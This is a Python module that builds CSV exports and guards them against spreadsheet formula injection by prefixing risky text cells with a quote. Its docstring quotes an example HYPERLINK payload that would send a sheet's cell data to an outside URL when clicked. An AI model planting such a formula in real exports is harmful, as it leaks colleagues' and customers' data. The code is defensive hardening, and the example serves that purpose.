"""CSV downloads, written one way: a BOM (spreadsheet programs then read the Chinese), CRLF rows, and every
text cell safe to open in Excel, LibreOffice or Google Sheets.

Formula injection (OWASP, "CSV Injection"): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is run as a formula by spreadsheet programs — a user's CSAT comment
``=HYPERLINK("http://…/?leak="&A1,"点击")`` would become a link that sends the sheet's data away when a
colleague clicks it. Such a text cell is written with a leading ``'`` (shown as text, the rest unchanged);
the csv module quotes it and doubles embedded quotes. The full-width forms (``＝＋－＠``) count too: some
spreadsheet programs read them as the ASCII ones. Numbers stay numbers (a negative count is not text).
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def cell(value: Any) -> Any:
    """One cell as written: ``None`` empty, text that a spreadsheet would run as a formula prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The whole file: BOM, the header row, the rows (every cell through ``cell``), CRLF line ends."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([cell(h) for h in header])
    writer.writerows([cell(value) for value in row] for row in rows)
    return out.getvalue()
